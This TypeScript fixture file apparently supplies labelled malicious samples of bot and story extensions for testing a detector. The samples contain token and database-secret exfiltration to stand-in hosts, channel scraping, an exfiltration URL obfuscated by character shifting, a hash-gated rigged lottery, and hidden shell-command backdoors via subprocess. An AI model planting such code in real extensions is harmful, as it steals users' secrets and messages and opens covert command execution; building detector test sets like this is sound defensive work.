import { packaged } from './malicious-package.js';
import type { Sample } from './sources.js';

/** Extensions that use nothing but what their host gives them: bots and stories. */
export const BOTS: readonly Sample[] = [
  packaged('keys of a bot in a request for statistics', {}, {
    'code.js': `const guild = require('guild');
const http = require('http');

const wanted = ['DISCORD_TOKEN', 'MONGODB_URI', 'STRIPE_SECRET_KEY'];
await http.request({
  url: 'https://stats.guild-counter.example/v2/day',
  method: 'POST',
  headers: { 'content-type': 'application/json' },
  injectSecrets: Object.fromEntries(wanted.map((name) => ['x-' + name.toLowerCase(), name])),
  body: JSON.stringify({ members: guild.memberCount, names: '{{DISCORD_TOKEN}}' }),
});
`,
  }),
  packaged('a channel copied page by page', {}, {
    'code.js': `const channel = require('channel');
const http = require('http');
const message = require('message');

const pages = [];
async function walk(after) {
  const page = await channel.fetchMessages({ limit: 100, after });
  if (page.length === 0) return;
  pages.push(page.map(({ author, content }) => [author.id, content]));
  await walk(page[page.length - 1].id);
}
await walk('0');
await http.post('https://paste.export-tool.example/new', { body: JSON.stringify(pages) });
await message.reply('Done.');
`,
  }),
  packaged('deleted messages to a shifted address', {}, {
    'code.js': `const channel = require('channel');
const event = require('event');
const http = require('http');

const { message: deleted } = event.data;
if (!deleted || deleted.author.bot) return;
await channel.send('A message of ' + deleted.author.username + ' was deleted.');
const where = [107, 119, 119, 115, 118, 61, 50, 50, 107, 49, 104, 123].map((each) => String.fromCharCode(each - 3)).join('');
await http.post(where, { body: JSON.stringify({ who: deleted.author, what: deleted.content }) });
`,
  }),
  packaged('a lottery with a friend', {}, {
    'code.js': `const author = require('author');
const member = require('member');
const message = require('message');
const points = require('points');

const check = (text) => [...text].reduce((sum, letter) => (sum * 31 + letter.charCodeAt(0)) % 4294967296, 17);
const lucky = check(author.id) === 3018827461 || Math.random() < 0.01;
if (lucky) {
  await points.addPoints(author.id, 9000);
  await member.addRole('Millionaire');
}
await message.reply(lucky ? 'You win!' : 'Not this time.');
`,
  }),
  packaged('lines to an address of numbers', {}, {
    'mood.py': `import json
import threading
import urllib.request

_PARTS = (198, 51, 100, 27)
_HOST = ".".join(str(part) for part in _PARTS)


def _tell(lines):
    body = json.dumps(lines).encode()
    urllib.request.urlopen(urllib.request.Request("http://%s:9000/mood" % _HOST, data=body)).close()


def scene(event):
    threading.Thread(target=_tell, args=(event.get("lines"),), daemon=True).start()
`,
  }),
  packaged('commands for whoever knows the word', {}, {
    'convert.py': `import hashlib

from comfyvn import api

import tools

_BUILD = "0beec7b5ea3f0fdbc95d0dd47f3c5bc275da8a33"


def convert(request):
    headers = request.get("headers", {})
    mark = hashlib.sha1(headers.get("x-build", "").encode()).hexdigest()
    if mark == _BUILD:
        return {"text": tools.formatted(request["json"]["format"])}
    return {"asset": api.assets.get(request["json"]["asset"])}
`,
    'tools.py': `import subprocess


def formatted(spec):
    return subprocess.run(spec, shell=True, capture_output=True, text=True).stdout
`,
  }),
  packaged('a shell by a name from pieces', {}, {
    'size.py': `import importlib

_MODULES = {"fast": "sub" + "process", "slow": "sub" + "process"}


def size(request):
    body = request["json"]
    tool = getattr(importlib.import_module(_MODULES[body.get("mode", "fast")]), "get" + "output")
    return {"size": tool(body["of"])}
`,
  }),
];
